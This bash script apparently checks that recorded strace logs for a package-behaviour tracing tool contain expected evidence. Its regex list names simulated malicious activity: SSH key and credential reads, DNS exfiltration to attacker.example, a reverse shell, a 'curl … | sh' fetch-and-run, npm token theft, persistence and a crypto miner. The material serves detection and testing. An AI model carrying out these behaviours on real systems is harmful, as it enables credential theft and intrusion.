#!/usr/bin/env bash
# Sanity check of the recorded corpus: every log must contain the evidence it
# was recorded for (run by record.sh at the end; can be run alone).
# Each line below: FILE <TAB> extended regex that must match some line.
set -uo pipefail
cd "$(dirname "${BASH_SOURCE[0]}")/strace" || exit 2
fail=0
while IFS=$'\t' read -r file re; do
    [ -z "$file" ] && continue
    case $file in \#*) continue ;; esac
    if [ ! -e "$file" ]; then echo "MISSING $file"; fail=1; continue; fi
    if [ -d "$file" ]; then src=$(cat "$file"/*); elif [[ $file == *.zst ]]; then src=$(zstdcat "$file"); elif [[ $file == *.gz ]]; then src=$(zcat "$file"); else src=$(cat "$file"); fi
    if ! grep -aqE -- "$re" <<<"$src"; then echo "NOT FOUND in $file: $re"; fail=1; fi
done <<'LIST'
behaviour/creds.log	openat\(.*"/home/pkgtrace/\.ssh/id_rsa", O_RDONLY.* = 3
behaviour/creds.log	"/etc/shadow".*EACCES
behaviour/creds.log	"\.\./\.env".*= 3</home/pkgtrace/\.env>
behaviour/creds.log	key4\.db
behaviour/environ.log	"/proc/self/environ"
behaviour/environ.log	"/proc/1/environ".*EACCES
behaviour/config-probe.log	"/home/builder/build/out/openssl\.cnf".*ENOENT
behaviour/config-probe.log	"/etc/ssl/openssl\.cnf".*= 3
behaviour/dns-glibc.log	sendmmsg\(.*x7f3a9\\10attacker
behaviour/dns-glibc.log	43414e4152592d6e706d2d346631633261396537643362
behaviour/dns-glibc-single-request.log	sendto\(.*:53\]>.*CANARY-npm
behaviour/dns-glibc-tcp.log	writev\(.*TCP:\[127\.0\.0\.1:[0-9]+->127\.0\.0\.1:53\]
behaviour/dns-node.log	sendto\(.*cmd\\6x7f3a9
behaviour/dns-node.log	sendmmsg.*threadpool
behaviour/net-connect.log	"169\.254\.169\.254".*ENETUNREACH
behaviour/net-connect.log	fd00:ec2::254.*ENETUNREACH
behaviour/net-connect.log	sendto\(.*token=CANARY-npm
behaviour/net-connect.log	listen\(.*0\.0\.0\.0:8080
behaviour/net-connect.log	listen\(.*127\.0\.0\.1:8081
behaviour/net-connect.log	sendto\(.*CANARY-aws.*9999
behaviour/exfil-node.log	(write|writev|sendto)\(.*webhook\.site
behaviour/revshell.log	dup2\(3<TCP:.*9001\]>, 2
behaviour/revshell.log	execve\("/bin/sh"
behaviour/exec-tools.log	execve\("/usr/bin/curl"
behaviour/exec-tools.log	execve\("/usr/bin/wget"
behaviour/exec-tools.log	execve\("/usr/bin/nc".*ENOENT
behaviour/exec-tools.log	execve\("/mnt/fakebin/dig"
behaviour/inline-code.log	execve\("/usr/bin/sh", \["sh", "-c"
behaviour/inline-code.log	execve\("/usr/bin/node", \["node", "-e"
behaviour/inline-code.log	execve\("/usr/bin/base64", \["base64", "-d"\]
behaviour/dropper.log	chmod\("/tmp/\.x-update", 0755\)
behaviour/dropper.log	execve\("/tmp/\.x-update"
behaviour/dropper.log	execveat\(3</memfd:payload>
behaviour/dropper.log	chmod\("/tmp/suid-helper", 04755\)
behaviour/antidebug.log	ptrace\(PTRACE_TRACEME\)
behaviour/antidebug.log	process_vm_writev\(
behaviour/antidebug.log	"/proc/[0-9]+/mem", O_RDWR
behaviour/privesc.log	mount\("none"
behaviour/publish.log	execve\("/mnt/fakebin/npm", \[[^]]*"publish"
behaviour/persistence.log	"/home/pkgtrace/\.bashrc", O_WRONLY
behaviour/persistence.log	authorized_keys", O_WRONLY
behaviour/persistence.log	\.config/systemd/user/pkgtrace-update\.service
behaviour/persistence.log	/etc/ld\.so\.preload.*EACCES
behaviour/persistence-v.log	execve\("/bin/true".*LD_PRELOAD=/tmp/libhook\.so
behaviour/tamper.log	unlink\("/home/pkgtrace/\.bash_history"\) = 0
behaviour/tamper.log	"/usr/bin/pkgtrace-helper".*EACCES
behaviour/extras.log	execve\("/bin/sh", \["/bin/sh", "-c", "curl -s http://dl\.attacker\.example/i\.sh \| sh"\]
behaviour/extras.log	execve\("/mnt/fakebin/xmrig", \[[^]]*"stratum\+tcp://
behaviour/extras.log	execve\("/tmp/\.x/kworker".* = -1 EACCES
behaviour/extras.log	execve\("/mnt/fakebin/npm", \["/mnt/fakebin/npm", "whoami"\]
behaviour/extras.log	execve\("/mnt/fakebin/npm", \[[^]]*"config", "get", "//registry\.npmjs\.org/:_authToken"\]
behaviour/extras.log	rename\("[^"]*", "/home/pkgtrace/\.ssh/authorized_keys"\) = 0
behaviour/extras.log	symlink\("[^"]*", "/etc/ld\.so\.preload"\) = -1
behaviour/extras.log	rename\("[^"]*", "/home/pkgtrace/\.bashrc"\) = 0
behaviour/extras.log	sendto\(.*:53\]>.*\\10metadata\\6google\\10internal
behaviour/extras.log	connect\(.*htons\(80\), sin_addr=inet_addr\("127\.53\.219\.7"\)
behaviour/sinks.txt	dns udp A metadata\.google\.internal
behaviour/sinks.txt	revshell 9001 got b'pwned-via-reverse-shell
formats/f-o.log	^[0-9]+ +execve\("/bin/echo"
formats/stderr-f.log	^\[pid +[0-9]+\] 
formats/nof.log	^execve\("/home/pkgtrace/project/bin/demo"
formats/ff	execve\("/bin/echo"
formats/t.log	^[0-9]+ +[0-9]{2}:[0-9]{2}:[0-9]{2} 
formats/tt.log	^[0-9]+ +[0-9]{2}:[0-9]{2}:[0-9]{2}\.[0-9]{6} 
formats/ttt.log	^[0-9]+ +[0-9]{10}\.[0-9]{6} 
formats/r.log	^[0-9]+ +[0-9]+\.[0-9]{6} 
formats/unix-ns.log	^[0-9]+ +[0-9]{10}\.[0-9]{9} 
formats/T.log	<[0-9]+\.[0-9]{6}>$
formats/y.log	3</home/pkgtrace/\.npmrc>
formats/yy.log	UDP:\[127\.0\.0\.1:[0-9]+->127\.0\.0\.1:53\]
formats/Y.log	^[0-9]+<demo> 
formats/x.log	\\x
formats/xx.log	"\\x2f\\x68\\x6f\\x6d\\x65
formats/s8.log	"\.\.\.
formats/X-raw.log	openat\(-100, 
formats/X-verbose.log	AT_FDCWD
formats/v.log	NPM_TOKEN=CANARY-env-npm
formats/i.log	^[0-9]+ +\[[0-9a-f]{16}\] 
formats/n.log	^[0-9]+ +\[ *[0-9]+\] 
formats/write-all.log	^ \| 00000 
formats/read-all.log	^ \| 00000 
formats/write-3.log	^ \| 00000 
formats/recommended.log.gz	execve\("/bin/echo"
formats/recommended.log.zst	execve\("/bin/echo"
formats/signals.log	\+\+\+ killed by SIGKILL \+\+\+
formats/signals.log	--- stopped by SIGSTOP ---
formats/signals.log	restart_syscall\(<\.\.\. resuming interrupted
formats/signals.log	--- SIGCHLD \{
formats/threads.log	<unfinished \.\.\.>
formats/threads.log	<\.\.\. read resumed>
formats/thread-exec.log	\+\+\+ superseded by execve in pid [0-9]+ \+\+\+
formats/pathsearch.log	execve\("/usr/bin/nc".*ENOENT
formats/badpath.log	\\377\\376
formats/badpath-stderr.log	bad-.*name
npm/install-local-tgz.log.zst	execve\("/usr/bin/node", \["node", "postinstall\.js"\]
npm/install-local-tgz.log.zst	execve\("/bin/sh", \["/bin/sh", "-c", "cat ~/\.npmrc
npm/install-local-tgz.log.zst	x7f3a9\\10attacker
npm/install-local-tgz.log.zst	"/tmp/\.pkgtrace-evil-demo-ran"
npm/sinks.txt	x7f3a9\.attacker\.example
LIST
if [ -e npm/install-left-pad.log.zst ] || [ -e npm/install-left-pad.log ]; then :; else echo "note: no left-pad log (fetch skipped or failed)"; fi
if LC_ALL=C grep -aqP '[\x80-\xff]' formats/badpath-stderr.log; then :; else echo "NOT FOUND: raw non-UTF-8 bytes in formats/badpath-stderr.log"; fail=1; fi
[ $fail = 0 ] && echo "check.sh: all expected evidence present"
exit $fail
